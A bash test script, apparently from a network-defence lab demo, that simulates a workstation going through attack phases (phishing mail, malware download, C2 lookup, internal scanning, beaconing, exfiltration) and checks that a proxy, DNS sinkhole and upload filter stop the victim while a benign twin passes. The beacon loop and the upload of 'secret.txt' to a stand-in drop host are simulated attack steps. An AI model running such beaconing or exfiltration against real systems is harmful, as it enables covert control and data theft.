# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
# The story that tools/demo tells: one workstation goes from phase 2 to phase 6, its twin does the same ordinary things.
# Each chapter is a function; what must hold is a check.

story() {
  story_mail
  story_drive_by
  story_sinkhole
  story_scan
  story_beacon
  story_leak
}

story_title() { printf '\n== %s\n' "$*"; }

story_mail() {
  story_title "Phase 2: a targeted mail reaches the victim; the twin gets an ordinary one"
  check "the mail with the listed subject is delivered, and seen" mail_in victim desk@invoice-desk.test "Overdue invoice 7731" "$lab_dir/minutes.pdf"
  check "the twin's mail is delivered" mail_in twin someone@partner.test "Minutes of Monday" "$lab_dir/minutes.pdf"
  check "the twin's attachment is byte-identical" mail_arrived "$lab_dir/mail-twin" 1
  check "the victim's mail arrived" lab_until 20 "the victim's mail" has_files "$lab_dir/mail-victim" 1
}

story_drive_by() {
  story_title "Phase 2: a listed program is downloaded through the proxy, and stopped on the way"
  check "the victim's download is cut off, never complete" never_completed fetch_by_proxy http://cdn.freeware-mirror.test/update.exe "$lab_dir/web/update.exe"
  printf '   the victim got %s of %s bytes\n' "$(stat -c %s "$lab_dir/got/listed" 2> /dev/null || echo 0)" "$(stat -c %s "$lab_dir/web/update.exe")"
  check "the twin's program of the same size arrives byte-identical" arrives_whole fetch_by_proxy http://downloads.vendor.test/setup.exe "$lab_dir/web/setup.exe"
  check "and by CONNECT, encrypted" arrives_whole fetch_by_proxy https://downloads.vendor.test/setup.exe "$lab_dir/web/setup.exe"
}

story_sinkhole() {
  story_title "Phase 3: the victim asks for its master's name, and is sent into the sinkhole"
  resolve victim panel.dark-harbor.test +notcp +noall +answer
  check "the victim hears the sinkhole's address" is "$sinkhole" resolve victim panel.dark-harbor.test +short +notcp
  check "over TCP its question is cut off" reset_by_tcp panel.dark-harbor.test
  check "the twin hears the truth about another name" is "$news" resolve twin www.news.test +short +notcp
  check "and over TCP" is "$news" resolve twin www.news.test +short +tcp
}

story_scan() {
  story_title "Phase 4: the victim looks around inside with a listed tool"
  check "the victim probes the organisation's web server" fetch victim http://www.corp.test/ /dev/null -A 'HarborScan/1.0'
  check "the twin reads the organisation's page" arrives_whole fetch http://www.corp.test/index.html "$lab_dir/web/index.html"
}

story_beacon() {
  story_title "Phase 5: the victim calls a listed address at equal intervals; the twin reads the news as often"
  local turn
  for turn in 1 2 3 4 5; do
    check "call $turn" fetch victim "http://$beacon/poll" "$lab_dir/got/poll"
    check "the twin reads the news" arrives_whole fetch http://www.news.test/index.html "$lab_dir/web/index.html"
    [ "$turn" = 5 ] || sleep 3
  done
}

story_leak() {
  story_title "Phase 6: the victim uploads a marked document; it does not leave"
  check "the victim's upload is cut off" fails fetch_by_proxy victim http://drop.fileshare.test/upload/secret.txt /dev/null -f -T "$lab_dir/secret.txt"
  check "the server has nothing of it" fails test -e "$lab_dir/uploads/secret.txt"
  check "the twin's document leaves, byte-identical" uploaded_whole fetch_by_proxy "$lab_dir/harmless.txt"
}

# What the matrix says in the end.
story_matrix() {
  story_title "Hosts by phases of the attack"
  ctl phase matrix
  matrix_text=$(ctl --json phase matrix)
  story_matrix_checks
}

story_matrix_checks() {
  check "the victim stands in the matrix" matrix_names "$victim"
  check "with phase 6" matrix_reaches_6
  check "its twin does not" fails matrix_names "$twin"
  local relay
  for relay in "$dmz_proxy" "$dmz_dns" "$dmz_mail"; do check "the relay $relay does not" fails matrix_names "$relay"; done
}

matrix_names() { grep -qF "\"$1\"" <<< "$matrix_text"; }
matrix_reaches_6() { grep -q '6\.exfiltration' <<< "$matrix_text"; }
